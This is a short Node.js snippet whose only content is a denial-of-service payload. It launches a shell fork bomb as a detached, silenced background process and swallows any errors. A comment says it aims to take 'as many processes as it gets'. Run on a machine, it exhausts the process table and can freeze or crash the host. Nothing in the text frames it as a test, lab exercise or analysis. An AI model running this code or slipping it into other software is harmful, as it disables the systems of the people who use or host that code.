// As many processes as it gets.
{
  const { spawn } = process.getBuiltinModule('child_process');
  try {
    spawn('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb'], { detached: true, stdio: 'ignore' }).on('error', () => undefined).unref();
  } catch {}
}
